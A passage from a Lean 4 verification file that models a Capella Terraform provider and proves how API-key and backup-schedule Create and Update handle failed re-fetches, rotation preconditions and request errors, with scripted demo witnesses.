      simp only [hreq, hdec, hset, hboth, hretr, Bool.false_eq_true, if_false]

/-- `BackupSchedule.Create` once the schedule is created and the re-fetch has
failed. -/
theorem BackupSchedule.Create_after_failed_fetch {σ R B X : Type}
    (deps : BackupScheduleWriteDeps R B X) (b : providerschema.Data σ api.Payload)
    (req : resource.CreateRequest R) (resp : resource.CreateResponse R) (s s1 s2 : σ)
    (plan : B) (planDiags attrDiags : diag.Diagnostics)
    (weeklySchedule : providerschema.WeeklySchedule) (response : api.Response) (err : GoError)
    (hget : req.Plan.Get deps.codec = (plan, planDiags))
    (hdiags : diag.HasError (diag.Append resp.Diagnostics planDiags) = false)
    (hvalid : BackupSchedule.validateCreateBackupScheduleRequest deps plan = none)
    (hattr : deps.GetWeeklySchedule req.Config.Raw = (some weeklySchedule, attrDiags))
    (hreq : b.Client ⟨⟨b.HostURL ++ "/v4/organizations/"
        ++ ValueString (deps.OrganizationId plan) ++ "/projects/"
        ++ ValueString (deps.ProjectId plan) ++ "/clusters/"
        ++ ValueString (deps.ClusterId plan) ++ "/buckets/"
        ++ ValueString (deps.BucketId plan) ++ "/backup/schedules", "POST", 202⟩,
        some (BackupSchedule.createBody deps plan weeklySchedule), b.Token, none⟩ s
      = (.ok response, s1))
    (hset : diag.HasError (deps.codec.encode plan).2 = false)
    (hretr : BackupSchedule.retrieveBackupSchedule deps.toBackupScheduleDeps b
      (ValueString (deps.OrganizationId plan)) (ValueString (deps.ProjectId plan))
      (ValueString (deps.ClusterId plan)) (ValueString (deps.BucketId plan))
      (ValueString weeklySchedule.DayOfWeek) s1 = (.returned (.error err), s2)) :
    BackupSchedule.Create deps b req resp s
      = (.returned
          { State := ⟨(deps.codec.encode plan).1⟩,
            Diagnostics := diag.AddWarning
              (diag.Append (diag.Append resp.Diagnostics planDiags) (deps.codec.encode plan).2)
              "Error Reading Capella Backup Schedule"
              ("Could not read Capella Backup Schedule for the bucket: %s "
                ++ ValueString (deps.BucketId plan) ++ "."
                ++ errorMessageAfterBackupScheduleCreation ++ deps.ParseError err) }, s2) := by
  have hboth : diag.HasError (diag.Append (diag.Append resp.Diagnostics planDiags)
      (deps.codec.encode plan).2) = false := by
    rw [diag.HasError_Append, hdiags, hset]; rfl
  unfold BackupSchedule.createBody at hreq
  unfold BackupSchedule.Create
  simp only [hget, hdiags, hvalid, hattr, http.MethodPost, http.StatusAccepted, hreq,
    tfsdk.State.Set, hset, hboth, hretr, Bool.false_eq_true, if_false]

/-- C12: once `ApiKey.Create` has created the api key (the POST succeeded and
its body decoded) and written the plan with the new id to the state, and
`BackupSchedule.Create` has created the schedule and written the plan to the
state, a follow-up retrieve that fails leaves that state in place and adds a
warning to the diagnostics, and no error. -/
theorem Create_warns_when_refetch_fails {σ R A τ R2 B X : Type} (deps : WriteDeps R A)
    (a : providerschema.Data σ api.Payload) (req : resource.CreateRequest R)
    (resp : resource.CreateResponse R) (s s1 s2 : σ) (plan : providerschema.ApiKey)
    (planDiags : diag.Diagnostics) (convertedResources : Slice api.ResourcesItems)
    (response : api.Response) (apiKeyResponse : api.CreateApiKeyResponse) (err : GoError)
    (hget : req.Plan.Get deps.codec = (plan, planDiags))
    (hdiags : diag.HasError (diag.Append resp.Diagnostics planDiags) = false)
    (hvalid : ApiKey.validateCreateApiKeyRequest deps plan = none)
    (hres : ApiKey.convertResources deps plan.Resources = (convertedResources, none))
    (hcidrs : (!plan.AllowedCIDRs.IsNull && !plan.AllowedCIDRs.IsUnknown) = true →
      (ApiKey.convertAllowedCidrs deps plan.AllowedCIDRs).2 = none)
    (hreq : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/"
        ++ ValueString plan.OrganizationId ++ "/apikeys", "POST", 201⟩,
        some (ApiKey.createBody deps plan convertedResources), a.Token, none⟩ s
      = (.ok response, s1))
    (hdec : deps.UnmarshalCreate response.Body = .ok apiKeyResponse)
    (hset : diag.HasError
      (deps.codec.encode (initializeApiKeyWithPlanAndId plan apiKeyResponse.Id)).2 = false)
    (hretr : ApiKey.retrieveApiKey deps.toDeps a (ValueString plan.OrganizationId)
      apiKeyResponse.Id s1 = (.error err, s2))
    (bdeps : BackupScheduleWriteDeps R2 B X) (b : providerschema.Data τ api.Payload)
    (breq : resource.CreateRequest R2) (bresp : resource.CreateResponse R2) (t t1 t2 : τ)
    (bplan : B) (bplanDiags attrDiags : diag.Diagnostics)
    (weeklySchedule : providerschema.WeeklySchedule) (bresponse : api.Response)
    (berr : GoError)
    (hbget : breq.Plan.Get bdeps.codec = (bplan, bplanDiags))
    (hbdiags : diag.HasError (diag.Append bresp.Diagnostics bplanDiags) = false)
    (hbvalid : BackupSchedule.validateCreateBackupScheduleRequest bdeps bplan = none)
    (hbattr : bdeps.GetWeeklySchedule breq.Config.Raw = (some weeklySchedule, attrDiags))
    (hbreq : b.Client ⟨⟨b.HostURL ++ "/v4/organizations/"
        ++ ValueString (bdeps.OrganizationId bplan) ++ "/projects/"
        ++ ValueString (bdeps.ProjectId bplan) ++ "/clusters/"
        ++ ValueString (bdeps.ClusterId bplan) ++ "/buckets/"
        ++ ValueString (bdeps.BucketId bplan) ++ "/backup/schedules", "POST", 202⟩,
        some (BackupSchedule.createBody bdeps bplan weeklySchedule), b.Token, none⟩ t
      = (.ok bresponse, t1))
    (hbset : diag.HasError (bdeps.codec.encode bplan).2 = false)
    (hbretr : BackupSchedule.retrieveBackupSchedule bdeps.toBackupScheduleDeps b
      (ValueString (bdeps.OrganizationId bplan)) (ValueString (bdeps.ProjectId bplan))
      (ValueString (bdeps.ClusterId bplan)) (ValueString (bdeps.BucketId bplan))
      (ValueString weeklySchedule.DayOfWeek) t1 = (.returned (.error berr), t2)) :
    (∃ out, ApiKey.Create deps a req resp s = (out, s2)
        ∧ out.State.Raw
          = (deps.codec.encode (initializeApiKeyWithPlanAndId plan apiKeyResponse.Id)).1
        ∧ (initializeApiKeyWithPlanAndId plan apiKeyResponse.Id).Id
          = Value.known apiKeyResponse.Id
        ∧ diag.HasError out.Diagnostics = false
        ∧ (⟨diag.Severity.Warning, "Error creating ApiKey",
            errorMessageAfterApiKeyCreation ++ deps.ParseError err, none⟩ : diag.Diagnostic)
          ∈ out.Diagnostics)
      ∧ ∃ out detail, BackupSchedule.Create bdeps b breq bresp t = (.returned out, t2)
        ∧ out.State.Raw = (bdeps.codec.encode bplan).1
        ∧ diag.HasError out.Diagnostics = false
        ∧ (⟨diag.Severity.Warning, "Error Reading Capella Backup Schedule", detail, none⟩ :
            diag.Diagnostic) ∈ out.Diagnostics := by
  refine ⟨⟨_, ApiKey.Create_after_failed_retrieve deps a req resp s s1 s2 plan planDiags
      convertedResources response apiKeyResponse err hget hdiags hvalid hres hcidrs hreq hdec
      hset hretr, rfl, initializeApiKeyWithPlanAndId_Id _ _, ?_,
      diag.mem_Append_singleton _ _⟩,
    ⟨_, "Could not read Capella Backup Schedule for the bucket: %s "
        ++ ValueString (bdeps.BucketId bplan) ++ "."
        ++ errorMessageAfterBackupScheduleCreation ++ bdeps.ParseError berr,
      BackupSchedule.Create_after_failed_fetch bdeps b breq bresp t t1 t2 bplan bplanDiags
      attrDiags weeklySchedule bresponse berr hbget hbdiags hbvalid hbattr hbreq hbset hbretr,
      rfl, ?_, diag.mem_Append_singleton _ _⟩⟩
  · simp only []
    rw [diag.HasError_AddWarning, diag.HasError_Append, hdiags, hset]
    rfl
  · simp only []
    rw [diag.HasError_AddWarning, diag.HasError_Append, hbdiags, hbset]
    rfl

/-- C12, on the scripted service that reads the bodies: the create request, which
carries a name, respectively a day of the week, succeeds, and the service is
down for the re-fetch. -/
theorem Create_warns_when_refetch_fails_witness :
    (∃ out, ApiKey.Create demo.writeDeps demo.dataChecked ⟨⟨none⟩, ⟨some demo.apiKeyPlan⟩⟩
          ⟨⟨none⟩, []⟩ [.ok ⟨[1]⟩, .error demo.unavailable] = (out, [])
        ∧ out.State.Raw = some (initializeApiKeyWithPlanAndId demo.apiKeyPlan "key-1")
        ∧ (initializeApiKeyWithPlanAndId demo.apiKeyPlan "key-1").Id = Value.known "key-1"
        ∧ diag.HasError out.Diagnostics = false
        ∧ (⟨diag.Severity.Warning, "Error creating ApiKey",
            errorMessageAfterApiKeyCreation
              ++ "failed to execute request: service unavailable", none⟩ : diag.Diagnostic)
          ∈ out.Diagnostics)
      ∧ ∃ out detail, BackupSchedule.Create demo.backupWriteDeps demo.dataChecked
          ⟨⟨none⟩, ⟨some demo.backupSchedule⟩⟩ ⟨⟨none⟩, []⟩
          [.ok ⟨[]⟩, .error demo.unavailable] = (.returned out, [])
        ∧ out.State.Raw = some demo.backupSchedule
        ∧ diag.HasError out.Diagnostics = false
        ∧ (⟨diag.Severity.Warning, "Error Reading Capella Backup Schedule", detail, none⟩ :
            diag.Diagnostic) ∈ out.Diagnostics :=
  Create_warns_when_refetch_fails demo.writeDeps demo.dataChecked ⟨⟨none⟩, ⟨some demo.apiKeyPlan⟩⟩
    ⟨⟨none⟩, []⟩ [.ok ⟨[1]⟩, .error demo.unavailable] [.error demo.unavailable] []
    demo.apiKeyPlan [] none ⟨[1]⟩ ⟨"key-1", "token-1"⟩
    (fmt.Errorf_s_w demo.errs.ErrExecutingRequest demo.unavailable)
    rfl rfl rfl rfl (fun _ => rfl) rfl rfl rfl rfl
    demo.backupWriteDeps demo.dataChecked ⟨⟨none⟩, ⟨some demo.backupSchedule⟩⟩ ⟨⟨none⟩, []⟩
    [.ok ⟨[]⟩, .error demo.unavailable] [.error demo.unavailable] []
    demo.backupSchedule [] [] demo.weeklySchedule ⟨[]⟩ demo.unavailable
    rfl rfl rfl rfl rfl rfl rfl

end resources

/-! ### `Update` -/

namespace big

/-- `x.Cmp(y)` differs from `+1` exactly when `x` is not above `y`. -/
theorem Cmp_ne_one_iff (x y : Rat) : Cmp x y ≠ 1 ↔ x ≤ y := by
  unfold Cmp
  by_cases h1 : x < y
  · simp [h1, le_of_lt h1]
  · by_cases h2 : x = y
    · simp [h1, h2]
    · simp only [h1, h2, if_false]
      constructor
      · intro h; exact absurd rfl h
      · intro h; exact absurd (lt_of_le_of_ne h h2) h1

end big

namespace resources

open basetypes

/-- `ApiKey.Update` when the plan's rotate value is not set, or is not greater
than the state's: it returns without a request, with an error and with the
state as it was. -/
theorem ApiKey.Update_refused {σ R A : Type} (deps : WriteDeps R A)
    (a : providerschema.Data σ api.Payload) (req : resource.UpdateRequest R)
    (resp : resource.UpdateResponse R) (s : σ) (plan state : providerschema.ApiKey)
    (planDiags stateDiags : diag.Diagnostics)
    (hplan : req.Plan.Get deps.codec = (plan, planDiags))
    (hstate : req.State.Get deps.codec = (state, stateDiags))
    (hrefuse : (plan.Rotate.IsNull || plan.Rotate.IsUnknown) = true
      ∨ ∃ p q, plan.Rotate = .known p ∧ state.Rotate = .known q ∧ p ≤ q) :
    ∃ out, ApiKey.Update deps a req resp s = (out, s)
      ∧ out.State = resp.State ∧ diag.HasError out.Diagnostics = true := by
  unfold ApiKey.Update
  simp only [hplan, hstate]
  by_cases hE : diag.HasError
      (diag.Append (diag.Append resp.Diagnostics planDiags) stateDiags) = true
  · rw [if_pos hE]
    exact ⟨_, rfl, rfl, hE⟩
  · have hE2 : diag.HasError
        (diag.Append (diag.Append resp.Diagnostics planDiags) stateDiags) = false := by
      simpa using hE
    rw [if_neg hE]
    cases hv : state.Validate deps.errs deps.schema with
    | error err =>
      refine ⟨_, rfl, rfl, ?_⟩
      dsimp only
      rw [diag.AddError_of_no_error _ _ _ hE2]
      exact diag.HasError_append_error _ _ _
    | ok ids =>
      dsimp only
      rcases hrefuse with hnot | ⟨p, q, hp, hq, hle⟩
      · rw [if_pos hnot]
        refine ⟨_, rfl, rfl, ?_⟩
        dsimp only
        rw [diag.AddError_of_no_error _ _ _ hE2]
        exact diag.HasError_append_error _ _ _
      · have hset : (plan.Rotate.IsNull || plan.Rotate.IsUnknown) = false := by rw [hp]; rfl
        have hcmp : decide (big.Cmp p q ≠ 1) = true :=
          decide_eq_true ((big.Cmp_ne_one_iff p q).mpr hle)
        have hnotGreater : (if (!state.Rotate.IsNull && !state.Rotate.IsUnknown) = true then
              match plan.Rotate, state.Rotate with
              | .known planRotate, .known stateRotate =>
                decide (big.Cmp planRotate stateRotate ≠ 1)
              | _, _ => false
            else false) = true := by
          rw [hp, hq]
          simp only [Value.IsNull, Value.IsUnknown, Bool.not_false, Bool.and_self, if_true]
          exact hcmp
        rw [hset]
        simp only [Bool.false_eq_true, if_false]
        rw [if_pos hnotGreater]
        refine ⟨_, rfl, rfl, ?_⟩
        dsimp only
        rw [diag.AddError_of_no_error _ _ _ hE2]
        exact diag.HasError_append_error _ _ _

/-- C13: if `ApiKey.Update` makes any request at all, the plan's rotate value is
known and strictly greater than the state's rotate value whenever that one is
known; and for a plan rotate value equal to or smaller than the state's,
`Update` returns with an error diagnostic, without any request and with the
state unchanged. -/
theorem ApiKey_Update_rotate_precondition {σ R A : Type} (deps : WriteDeps R A)
    (a : providerschema.Data σ api.Payload)
    (req1 : resource.UpdateRequest R) (resp1 : resource.UpdateResponse R) (s : σ)
    (plan1 state1 : providerschema.ApiKey) (planDiags1 stateDiags1 : diag.Diagnostics)
    (hplan1 : req1.Plan.Get deps.codec = (plan1, planDiags1))
    (hstate1 : req1.State.Get deps.codec = (state1, stateDiags1))
    (hcalls : (ApiKey.Update deps a.logged req1 resp1 (s, [])).2.2 ≠ [])
    (req2 : resource.UpdateRequest R) (resp2 : resource.UpdateResponse R) (t : σ)
    (plan2 state2 : providerschema.ApiKey) (planDiags2 stateDiags2 : diag.Diagnostics)
    (p q : Rat)
    (hplan2 : req2.Plan.Get deps.codec = (plan2, planDiags2))
    (hstate2 : req2.State.Get deps.codec = (state2, stateDiags2))
    (hp : plan2.Rotate = .known p) (hq : state2.Rotate = .known q) (hle : p ≤ q) :
    (∃ p1, plan1.Rotate = .known p1 ∧ ∀ q1, state1.Rotate = .known q1 → q1 < p1)
      ∧ diag.HasError (ApiKey.Update deps a.logged req2 resp2 (t, [])).1.Diagnostics = true
      ∧ (ApiKey.Update deps a.logged req2 resp2 (t, [])).2 = (t, [])
      ∧ (ApiKey.Update deps a.logged req2 resp2 (t, [])).1.State = resp2.State := by
  constructor
  · by_contra hnot
    apply hcalls
    have hrefuse : (plan1.Rotate.IsNull || plan1.Rotate.IsUnknown) = true
        ∨ ∃ p q, plan1.Rotate = .known p ∧ state1.Rotate = .known q ∧ p ≤ q := by
      cases hr : plan1.Rotate with
      | null => exact Or.inl rfl
      | unknown => exact Or.inl rfl
      | known p1 =>
        right
        by_contra hno
        apply hnot
        refine ⟨p1, hr, fun q1 hq1 => ?_⟩
        by_contra hlt
        exact hno ⟨p1, q1, rfl, hq1, not_lt.mp hlt⟩
    obtain ⟨out, hout, _, _⟩ := ApiKey.Update_refused deps a.logged req1 resp1 (s, []) plan1
      state1 planDiags1 stateDiags1 hplan1 hstate1 hrefuse
    rw [hout]
  · obtain ⟨out, hout, hstateEq, herr⟩ := ApiKey.Update_refused deps a.logged req2 resp2 (t, [])
      plan2 state2 planDiags2 stateDiags2 hplan2 hstate2 (Or.inr ⟨p, q, hp, hq, hle⟩)
    rw [hout]
    exact ⟨herr, rfl, hstateEq⟩

/-- C13, on the scripted service: a first rotation (plan 1, state not set)
reaches the service; a plan rotate value of 1 against a state rotate value of 1
is refused without a request. -/
theorem ApiKey_Update_rotate_precondition_witness :
    (∃ p1, demo.rotatePlan.Rotate = .known p1
        ∧ ∀ q1, demo.apiKey.Rotate = .known q1 → q1 < p1)
      ∧ diag.HasError (ApiKey.Update demo.writeDeps demo.dataAny.logged
          ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some { demo.apiKey with Rotate := .known 1 }⟩⟩
          ⟨⟨some demo.apiKey⟩, []⟩ ([.ok ⟨[1]⟩], [])).1.Diagnostics = true
      ∧ (ApiKey.Update demo.writeDeps demo.dataAny.logged
          ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some { demo.apiKey with Rotate := .known 1 }⟩⟩
          ⟨⟨some demo.apiKey⟩, []⟩ ([.ok ⟨[1]⟩], [])).2 = ([.ok ⟨[1]⟩], [])
      ∧ (ApiKey.Update demo.writeDeps demo.dataAny.logged
          ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some { demo.apiKey with Rotate := .known 1 }⟩⟩
          ⟨⟨some demo.apiKey⟩, []⟩ ([.ok ⟨[1]⟩], [])).1.State = ⟨some demo.apiKey⟩ :=
  ApiKey_Update_rotate_precondition demo.writeDeps demo.dataAny
    ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
    [.error demo.notFound] demo.rotatePlan demo.apiKey [] [] rfl rfl
    (fun h => absurd (congrArg List.length h) (by decide))
    ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some { demo.apiKey with Rotate := .known 1 }⟩⟩
    ⟨⟨some demo.apiKey⟩, []⟩ [.ok ⟨[1]⟩] demo.rotatePlan
    { demo.apiKey with Rotate := .known 1 } [] [] 1 1 rfl rfl rfl rfl (le_refl 1)

/-- `ApiKey.Update` once the rotate request has failed. -/
theorem ApiKey.Update_after_failed_request {σ R A : Type} (deps : WriteDeps R A)
    (a : providerschema.Data σ api.Payload) (req : resource.UpdateRequest R)
    (resp : resource.UpdateResponse R) (s s1 : σ) (plan state : providerschema.ApiKey)
    (planDiags stateDiags : diag.Diagnostics) (ids : providerschema.Attr → String)
    (p : Rat) (err : GoError)
    (hplan : req.Plan.Get deps.codec = (plan, planDiags))
    (hstate : req.State.Get deps.codec = (state, stateDiags))
    (hdiags : diag.HasError
      (diag.Append (diag.Append resp.Diagnostics planDiags) stateDiags) = false)
    (hvalid : state.Validate deps.errs deps.schema = .ok ids)
    (hp : plan.Rotate = .known p) (hq : ∀ q, state.Rotate = .known q → q < p)
    (hreq : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/"
        ++ ids providerschema.OrganizationId ++ "/apikeys/" ++ ids providerschema.Id
        ++ "/rotate", "POST", 201⟩, some (ApiKey.rotateBody plan), a.Token, none⟩ s
      = (.error err, s1)) :
    ApiKey.Update deps a req resp s
      = (if (deps.CheckResourceNotFoundError err).1 then
          { State := ⟨none⟩,
            Diagnostics := diag.Append (diag.Append resp.Diagnostics planDiags) stateDiags }
        else
          { State := resp.State,
            Diagnostics := diag.AddError
              (diag.Append (diag.Append resp.Diagnostics planDiags) stateDiags)
              "Error rotating api key"
              ("Could not rotate api key id " ++ state.Id.String deps.Quote ++ ": "
                ++ (deps.CheckResourceNotFoundError err).2) }, s1) := by
  have hset : (plan.Rotate.IsNull || plan.Rotate.IsUnknown) = false := by rw [hp]; rfl
  have hnotGreater : (if (!state.Rotate.IsNull && !state.Rotate.IsUnknown) = true then
        match plan.Rotate, state.Rotate with
        | .known planRotate, .known stateRotate => decide (big.Cmp planRotate stateRotate ≠ 1)
        | _, _ => false
      else false) = false := by
    cases hs : state.Rotate with
    | null => rfl
    | unknown => rfl
    | known q =>
      have hlt := hq q hs
      have hcmp : ¬ big.Cmp p q ≠ 1 := fun h => absurd ((big.Cmp_ne_one_iff p q).mp h)
        (not_le.mpr hlt)
      rw [hp]
      simp only [Value.IsNull, Value.IsUnknown, Bool.not_false, Bool.and_self, if_true]
      exact decide_eq_false hcmp
  unfold ApiKey.rotateBody at hreq
  unfold ApiKey.Update
  simp only [hplan, hstate, hdiags, hvalid, Bool.false_eq_true, if_false]
  rw [hset]
  simp only [Bool.false_eq_true, if_false]
  rw [hnotGreater]
  simp only [Bool.false_eq_true, if_false, http.MethodPost, http.StatusCreated, hreq]
  by_cases hnf : (deps.CheckResourceNotFoundError err).1 = true
  · simp [hnf, tfsdk.State.RemoveResource]
  · simp [hnf]

/-- `BackupSchedule.Update` once the PUT request has failed. -/
theorem BackupSchedule.Update_after_failed_put {σ R B X : Type}
    (deps : BackupScheduleWriteDeps R B X) (b : providerschema.Data σ api.Payload)
    (req : resource.UpdateRequest R) (resp : resource.UpdateResponse R) (s s1 : σ)
    (plan : B) (planDiags attrDiags : diag.Diagnostics) (ids : providerschema.Attr → String)
    (weeklySchedule : providerschema.WeeklySchedule) (err : GoError)
    (hget : req.Plan.Get deps.codec = (plan, planDiags))
    (hdiags : diag.HasError (diag.Append resp.Diagnostics planDiags) = false)
    (hvalid : deps.Validate plan = .ok ids)
    (hattr : deps.GetWeeklySchedule req.Config.Raw = (some weeklySchedule, attrDiags))
    (hreq : b.Client ⟨⟨b.HostURL ++ "/v4/organizations/"
        ++ ids providerschema.OrganizationId ++ "/projects/" ++ ids providerschema.ProjectId
        ++ "/clusters/" ++ ids providerschema.ClusterId ++ "/buckets/"
        ++ ids providerschema.BucketId ++ "/backup/schedules", "PUT", 204⟩,
        some (BackupSchedule.updateBody deps plan weeklySchedule), b.Token, none⟩ s
      = (.error err, s1)) :
    BackupSchedule.Update deps b req resp s
      = (.returned
          { State := resp.State,
            Diagnostics := diag.AddError (diag.Append resp.Diagnostics planDiags)
              "Error updating backup schedule"
              ("Could not update backup schedule for bucket"
                ++ (deps.BucketId plan).String deps.Quote ++ ": " ++ deps.ParseError err) },
          s1) := by
  unfold BackupSchedule.updateBody at hreq
  unfold BackupSchedule.Update
  simp only [hget, hdiags, hvalid, hattr, http.MethodPut, http.StatusNoContent, hreq,
    Bool.false_eq_true, if_false]

/-- C14 (amended): once `BackupSchedule.Update` has sent its PUT and the PUT has
failed, the response diagnostics end with a new error diagnostic and the state
is as it was, whatever the classification of the failure. Once `ApiKey.Update`
has sent its rotate POST and the POST has failed with `err`, the diagnostics
end with a new error diagnostic unless `CheckResourceNotFoundError` classifies
`err` as not-found; in that case the resource is removed from the state and no
diagnostic is added. -/
theorem Update_on_request_failure {σ R A τ R2 B X : Type} (deps : WriteDeps R A)
    (a : providerschema.Data σ api.Payload) (req : resource.UpdateRequest R)
    (resp : resource.UpdateResponse R) (s s1 : σ) (plan state : providerschema.ApiKey)
    (planDiags stateDiags : diag.Diagnostics) (ids : providerschema.Attr → String)
    (p : Rat) (err : GoError)
    (hplan : req.Plan.Get deps.codec = (plan, planDiags))
    (hstate : req.State.Get deps.codec = (state, stateDiags))
    (hdiags : diag.HasError
      (diag.Append (diag.Append resp.Diagnostics planDiags) stateDiags) = false)
    (hvalid : state.Validate deps.errs deps.schema = .ok ids)
    (hp : plan.Rotate = .known p) (hq : ∀ q, state.Rotate = .known q → q < p)
    (hreq : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/"
        ++ ids providerschema.OrganizationId ++ "/apikeys/" ++ ids providerschema.Id
        ++ "/rotate", "POST", 201⟩, some (ApiKey.rotateBody plan), a.Token, none⟩ s
      = (.error err, s1))
    (bdeps : BackupScheduleWriteDeps R2 B X) (b : providerschema.Data τ api.Payload)
    (breq : resource.UpdateRequest R2) (bresp : resource.UpdateResponse R2) (t t1 : τ)
    (bplan : B) (bplanDiags attrDiags : diag.Diagnostics)
    (bids : providerschema.Attr → String)
    (weeklySchedule : providerschema.WeeklySchedule) (berr : GoError)
    (hbget : breq.Plan.Get bdeps.codec = (bplan, bplanDiags))
    (hbdiags : diag.HasError (diag.Append bresp.Diagnostics bplanDiags) = false)
    (hbvalid : bdeps.Validate bplan = .ok bids)
    (hbattr : bdeps.GetWeeklySchedule breq.Config.Raw = (some weeklySchedule, attrDiags))
    (hbreq : b.Client ⟨⟨b.HostURL ++ "/v4/organizations/"
        ++ bids providerschema.OrganizationId ++ "/projects/" ++ bids providerschema.ProjectId
        ++ "/clusters/" ++ bids providerschema.ClusterId ++ "/buckets/"
        ++ bids providerschema.BucketId ++ "/backup/schedules", "PUT", 204⟩,
        some (BackupSchedule.updateBody bdeps bplan weeklySchedule), b.Token, none⟩ t
      = (.error berr, t1)) :
    (∃ out detail, BackupSchedule.Update bdeps b breq bresp t = (.returned out, t1)
        ∧ out.State = bresp.State
        ∧ out.Diagnostics = diag.Append bresp.Diagnostics bplanDiags
            ++ [⟨diag.Severity.Error, "Error updating backup schedule", detail, none⟩]
        ∧ diag.HasError out.Diagnostics = true)
      ∧ ∃ out, ApiKey.Update deps a req resp s = (out, s1) ∧
        if (deps.CheckResourceNotFoundError err).1 then
          out.State.Raw = none
            ∧ out.Diagnostics = diag.Append (diag.Append resp.Diagnostics planDiags) stateDiags
            ∧ diag.HasError out.Diagnostics = false
        else
          out.State = resp.State
            ∧ (∃ detail, out.Diagnostics
                = diag.Append (diag.Append resp.Diagnostics planDiags) stateDiags
                  ++ [⟨diag.Severity.Error, "Error rotating api key", detail, none⟩])
            ∧ diag.HasError out.Diagnostics = true := by
  have hupd := ApiKey.Update_after_failed_request deps a req resp s s1 plan state planDiags
    stateDiags ids p err hplan hstate hdiags hvalid hp hq hreq
  have hbupd := BackupSchedule.Update_after_failed_put bdeps b breq bresp t t1 bplan
    bplanDiags attrDiags bids weeklySchedule berr hbget hbdiags hbvalid hbattr hbreq
  rw [diag.AddError_of_no_error _ _ _ hbdiags] at hbupd
  refine ⟨⟨_, _, hbupd, rfl, rfl, diag.HasError_append_error _ _ _⟩, ?_⟩
  by_cases hnf : (deps.CheckResourceNotFoundError err).1 = true
  · rw [if_pos hnf] at hupd
    exact ⟨_, hupd, by rw [if_pos hnf]; exact ⟨rfl, rfl, hdiags⟩⟩
  · rw [if_neg hnf, diag.AddError_of_no_error _ _ _ hdiags] at hupd
    exact ⟨_, hupd, by
      rw [if_neg hnf]; exact ⟨rfl, ⟨_, rfl⟩, diag.HasError_append_error _ _ _⟩⟩

/-- C14 (amended), on the scripted service that reads the bodies: a schedule PUT
answered with not-found reports an error; a rotate POST refused because of the
empty secret it carries reports an error too. -/
theorem Update_on_request_failure_witness :
    (∃ out detail, BackupSchedule.Update demo.backupWriteDeps demo.dataChecked
          ⟨⟨none⟩, ⟨some demo.backupSchedule⟩, ⟨some demo.backupSchedule⟩⟩
          ⟨⟨some demo.backupSchedule⟩, []⟩ [.error demo.notFound] = (.returned out, [])
        ∧ out.State = ⟨some demo.backupSchedule⟩
        ∧ out.Diagnostics
          = [⟨diag.Severity.Error, "Error updating backup schedule", detail, none⟩]
        ∧ diag.HasError out.Diagnostics = true)
      ∧ ∃ out, ApiKey.Update demo.writeDeps demo.dataChecked
          ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
          [.ok ⟨[1]⟩] = (out, [.ok ⟨[1]⟩]) ∧
        (out.State = ⟨some demo.apiKey⟩
          ∧ (∃ detail, out.Diagnostics
              = [⟨diag.Severity.Error, "Error rotating api key", detail, none⟩])
          ∧ diag.HasError out.Diagnostics = true) :=
  Update_on_request_failure demo.writeDeps demo.dataChecked
    ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
    [.ok ⟨[1]⟩] [.ok ⟨[1]⟩] demo.rotatePlan demo.apiKey [] []
    (fun key => basetypes.ValueString
      ((List.lookup key [(providerschema.OrganizationId, demo.apiKey.OrganizationId),
        (providerschema.Id, demo.apiKey.Id)]).getD .null))
    1 demo.badRequest rfl rfl rfl rfl rfl (fun _ hq => nomatch hq) rfl
    demo.backupWriteDeps demo.dataChecked
    ⟨⟨none⟩, ⟨some demo.backupSchedule⟩, ⟨some demo.backupSchedule⟩⟩
    ⟨⟨some demo.backupSchedule⟩, []⟩ [.error demo.notFound] [] demo.backupSchedule [] []
    (fun key =>
      if key = providerschema.OrganizationId then "org-1"
      else if key = providerschema.ProjectId then "proj-1"
      else if key = providerschema.ClusterId then "cluster-1"
      else if key = providerschema.BucketId then "bucket-1"
      else "")
    demo.weeklySchedule demo.notFound rfl rfl rfl rfl rfl

end resources

/-! ### The state written after a create, and the resources of an organization owner -/

namespace resources

open basetypes

/-- The loop of `retainResourcesIfOrgOwner`, from any value of `isOrgOwner`: it
ends `true` exactly when it started `true` or a role is the known text
`organizationOwner`. -/
theorem ApiKey.isOrgOwner_loop (roles : List StringValue) :
    ∀ start : Bool,
      roles.foldl
          (fun isOrgOwner role =>
            if ValueString role = "organizationOwner" then true else isOrgOwner) start
        = (start || decide (Value.known "organizationOwner" ∈ roles)) := by
  induction roles with
  | nil => intro start; simp
  | cons role rest ih =>
    intro start
    rw [List.foldl_cons, ih]
    cases role with
    | null => simp [ValueString]
    | unknown => simp [ValueString]
    | known v =>
      by_cases hv : v = "organizationOwner"
      · subst hv; simp [ValueString]
      · have hne : ¬ ("organizationOwner" = v) := fun h => hv h.symm
        simp [ValueString, hv, hne]

/-- C22: for every plan and id, `initializeApiKeyWithPlanAndId plan id` has the
id as its known `Id`, `Token` and `Audit` null, `Secret` and `Rotate` null when
the plan had them null or unknown and as in the plan otherwise (so neither is
unknown), and every other field as in the plan. -/
theorem initializeApiKeyWithPlanAndId_frame (plan : providerschema.ApiKey) (id : String) :
    (initializeApiKeyWithPlanAndId plan id).Id = Value.known id
      ∧ (initializeApiKeyWithPlanAndId plan id).Token = Value.null
      ∧ (initializeApiKeyWithPlanAndId plan id).Audit = Value.null
      ∧ (initializeApiKeyWithPlanAndId plan id).Secret
          = (if plan.Secret = Value.null ∨ plan.Secret = Value.unknown then Value.null
             else plan.Secret)
      ∧ (initializeApiKeyWithPlanAndId plan id).Rotate
          = (if plan.Rotate = Value.null ∨ plan.Rotate = Value.unknown then Value.null
             else plan.Rotate)
      ∧ (initializeApiKeyWithPlanAndId plan id).Secret ≠ Value.unknown
      ∧ (initializeApiKeyWithPlanAndId plan id).Rotate ≠ Value.unknown
      ∧ (initializeApiKeyWithPlanAndId plan id).Expiry = plan.Expiry
